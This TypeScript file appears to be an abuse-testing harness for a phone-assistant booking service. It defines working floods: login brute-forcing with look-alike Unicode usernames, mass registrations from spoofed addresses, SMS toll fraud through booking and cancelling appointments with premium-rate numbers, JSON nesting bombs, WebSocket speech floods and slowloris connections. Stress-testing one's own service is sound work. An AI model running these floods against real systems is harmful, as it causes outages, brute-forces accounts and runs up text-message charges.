import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import WebSocket from "ws";
import { ask, type Counts, registration, someAddress, type Target } from "./target.ts";

export type Flood = (target: Target, counts: Counts, signal: AbortSignal) => Promise<void>;

/** So many of one flood at a time: more would measure the attacker's own processor, which is the victim's, too. */
const atOnce = 8;
/** Between two tries of one of them. */
const everyMs = 10;

const repeated =
  (attempt: (target: Target, counts: Counts, index: number) => Promise<unknown>): Flood =>
  async (target, counts, signal) => {
    let next = 0;
    await Promise.all(
      Array.from({ length: atOnce }, async () => {
        while (!signal.aborted) {
          await attempt(target, counts, next++);
          await pause(everyMs);
        }
      }),
    );
  };

const form = "application/x-www-form-urlencoded";
/** Spellings that a careless comparison takes for other names. */
const spelled = (name: string, index: number): string =>
  [name, name.toUpperCase(), name.replace(/i/, "İ"), name.replace(/s/, "ſ"), ` ${name} `][index % 5] as string;

const logins = repeated((target, counts, index) => {
  const body = new URLSearchParams({ username: spelled(target.victim, index), password: `guess-${index}` });
  return ask(target, counts, "/token", { body: String(body), type: form });
});

/** Few networks, many accounts; each wants an assistant with a number. */
const trials = repeated(async (target, counts, index) => {
  const from = `203.0.113.${index % 4}`;
  const { username, password, body } = registration(`208555${String(1000 + (index % 9000))}`);
  if ((await ask(target, counts, "/users/register", { body, from })).status !== 201) return;
  const login = new URLSearchParams({ username, password });
  const { text } = await ask(target, counts, "/token", { body: String(login), type: form, from });
  const { access_token: token } = JSON.parse(text || "{}") as { access_token?: string };
  if (token) await ask(target, counts, "/instances", { body: JSON.stringify({ name: "Belle" }), token, from });
});

/** Numbers that cost whoever texts them: Jamaica, Grenada, 900, and far abroad; and one ordinary stranger's. */
const dear = ["+18765550123", "+14735550123", "+19005550123", "+882165550123", "+12085550199"];
const dayMs = 86_400_000;

/** Books and cancels, so that each sends a text. */
const texts = repeated(async (target, counts, index) => {
  const start = new Date(Math.ceil(Date.now() / dayMs) * dayMs + (index + 24) * 3_600_000).toISOString();
  const draft = { tenant_id: target.assistantId, start, name: "Flood", phone: dear[index % dear.length] };
  const { token } = target;
  const made = await ask(target, counts, "/api/appointments", { body: JSON.stringify(draft), token });
  if (made.status !== 201) return;
  const { id } = JSON.parse(made.text) as { id: string };
  await ask(target, counts, `/api/appointments/${id}`, { method: "DELETE", token });
});

const pages = repeated((target, counts) => {
  const body = JSON.stringify({ url: `${target.sandboxUrl}/sites/hall-of-mirrors/` });
  return ask(target, counts, "/api/analyze-website", { body, token: target.token });
});

const depth = 200_000;
const deep = `{"username":${"[".repeat(depth)}${"]".repeat(depth)}}`;
const wide = `{${Array.from({ length: 40_000 }, (_, n) => `"k${n}":${n}`).join(",")}}`;
const deepJson = repeated((target, counts, index) =>
  ask(target, counts, index % 2 ? "/users/register" : "/password/forgot", { body: index % 3 ? deep : wide }),
);

const visitors = 20;
/** Words that are dear to understand: long, and full of numbers, days and names. */
const mumble = "my name is four one one one tuesday the second of march no gas smell at twelve oak street ".repeat(20);

/** Visitors of the demo who talk without taking a breath. */
const frames: Flood = async (target, counts, signal) => {
  await Promise.all(
    Array.from({ length: visitors }, async () => {
      while (!signal.aborted) {
        const { status, text } = await ask(target, counts, "/api/phone/calls", { body: "{}" });
        if (status === 201) await talk((JSON.parse(text) as { url: string }).url, target, counts, signal);
        await pause(100);
      }
    }),
  );
};

async function talk(address: string, { url }: Target, counts: Counts, signal: AbortSignal): Promise<void> {
  const socket = new WebSocket(address, { origin: url, perMessageDeflate: false });
  socket.on("error", () => undefined);
  let isOpen = true;
  socket.on("close", () => {
    isOpen = false;
  });
  await Promise.race([once(socket, "open").catch(() => undefined), once(socket, "close").catch(() => undefined)]);
  while (isOpen && !signal.aborted) {
    counts.tried++;
    counts.let_in++;
    socket.send(JSON.stringify({ type: "speech", text: mumble.slice(0, 1_900) }));
    await pause(5);
  }
  if (!isOpen) counts.refused++;
  socket.terminate();
}

const slowClients = 300;

/** Connections that never say all of what they came to say. */
const slow: Flood = async ({ url }, counts, signal) => {
  const { hostname, port } = new URL(url);
  await Promise.all(
    Array.from({ length: slowClients }, async (_, n) => {
      await pause((n / slowClients) * 1000);
      counts.tried++;
      const socket = connect({ host: hostname, port: Number(port) });
      socket.on("error", () => undefined);
      let isOpen = true;
      socket.on("close", () => {
        isOpen = false;
      });
      socket.write(`POST /users/register HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${someAddress()}\r\n`);
      while (isOpen && !signal.aborted) {
        socket.write(`X-More: ${n}\r\n`);
        await pause(500);
      }
      counts[isOpen ? "let_in" : "refused"]++;
      socket.destroy();
    }),
  );
};

export const floods: Readonly<Record<string, Flood>> = {
  ...{ logins, trials, texts, pages, frames, slow },
  "deep JSON": deepJson,
};
